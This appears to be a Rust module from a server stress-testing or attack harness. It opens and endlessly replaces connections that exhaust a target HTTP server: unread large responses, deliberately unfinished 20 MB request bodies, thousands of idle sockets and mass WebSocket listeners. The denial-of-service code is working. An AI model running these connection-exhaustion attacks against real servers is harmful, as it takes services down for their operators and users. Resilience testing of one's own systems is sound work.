//! Connections that are held, and what they hold at the server.

use std::io;
use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpSocket;
use tokio::time::sleep;

use super::connection::{Connection, request};
use super::{Attacker, PAUSE};

const UNREAD: usize = 100;
const UNFINISHED: usize = 150;
const LISTENERS: usize = 1_000;
/// More than a server serves at a time.
const IDLE: usize = 4_200;
/// Open files that are left for everything else.
const OTHER_FILES: usize = 400;
/// What the socket of who reads nothing holds: the rest waits at the server.
const SMALL_BUFFER: u32 = 4 * 1024;
/// Longer than a server waits for who reads nothing.
const UNREAD_FOR: Duration = Duration::from_secs(45);
const ANNOUNCED: usize = 20 * 1024 * 1024;
const SENT: usize = 19 * 1024 * 1024;
const PIECE: usize = 64 * 1024;

/// 8 MB each that nobody reads.
pub(super) fn unread_answers(attacker: &Attacker) {
    hold(attacker, UNREAD, |attacker| async move {
        let socket = TcpSocket::new_v4()?;
        socket.set_recv_buffer_size(SMALL_BUFFER)?;
        let mut stream = socket.connect(attacker.material.server).await?;
        let asked = attacker.request("GET", &format!("/notes/{}", attacker.material.repetitive_note), "");
        stream.write_all(&asked).await?;
        // Whoever does not read does not see the end either.
        sleep(UNREAD_FOR).await;
        Ok(())
    });
}

/// Bodies of which the last megabyte never comes.
pub(super) fn unfinished_bodies(attacker: &Attacker) {
    hold(attacker, UNFINISHED, |attacker| async move {
        let mut connection = Connection::open(attacker.material.server).await?;
        let head = attacker.request("POST", "/notes", "");
        let head = String::from_utf8_lossy(&head).replace("Length: 0", &format!("Length: {ANNOUNCED}"));
        connection.stream.write_all(head.as_bytes()).await?;
        connection.stream.write_all(br#"{"title": "unfinished", "content": ""#).await?;
        let piece = vec![b'x'; PIECE];
        for _ in 0..SENT / PIECE {
            connection.stream.write_all(&piece).await?;
        }
        connection.until_closed().await;
        Ok(())
    });
}

/// Connections on which one request was answered, without a token, and nothing follows.
pub(super) fn idle(attacker: &Attacker) {
    let files = open_files().unwrap_or(usize::MAX).saturating_sub(OTHER_FILES);
    hold(attacker, IDLE.min(files), |attacker| async move {
        let server = attacker.material.server;
        let mut connection = Connection::open(server).await?;
        connection.exchange(&request(server, "", "GET", "/health", "")).await?;
        connection.until_closed().await;
        Ok(())
    });
}

/// Listeners to events, which read what comes.
pub(super) fn listeners(attacker: &Attacker) {
    hold(attacker, LISTENERS, |attacker| async move {
        let mut connection = Connection::open(attacker.material.server).await?;
        let upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
                       Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
        let asked = attacker.request("GET", "/events", "");
        let asked = String::from_utf8_lossy(&asked).trim_end().to_owned() + "\r\n" + upgrade;
        let status = connection.exchange(asked.as_bytes()).await?;
        attacker.count(&status.to_string());
        if status == 101 {
            connection.until_closed().await;
        }
        Ok(())
    });
}

/// Holds so many connections; one that ends is replaced.
fn hold<Holding>(attacker: &Attacker, count: usize, open_and_hold: fn(Attacker) -> Holding)
where
    Holding: Future<Output = io::Result<()>> + Send + 'static,
{
    for _ in 0..count {
        let attacker = attacker.clone();
        tokio::spawn(async move {
            loop {
                attacker.count("opened");
                match open_and_hold(attacker.clone()).await {
                    Ok(()) => attacker.count("ended"),
                    Err(error) => attacker.count(&error.kind().to_string()),
                }
                sleep(PAUSE).await;
            }
        });
    }
}

/// How many files this process may have open.
fn open_files() -> Option<usize> {
    let limits = std::fs::read_to_string("/proc/self/limits").ok()?;
    let line = limits.split('\n').find_map(|line| line.strip_prefix("Max open files"))?;
    line.split_whitespace().next()?.parse().ok()
}
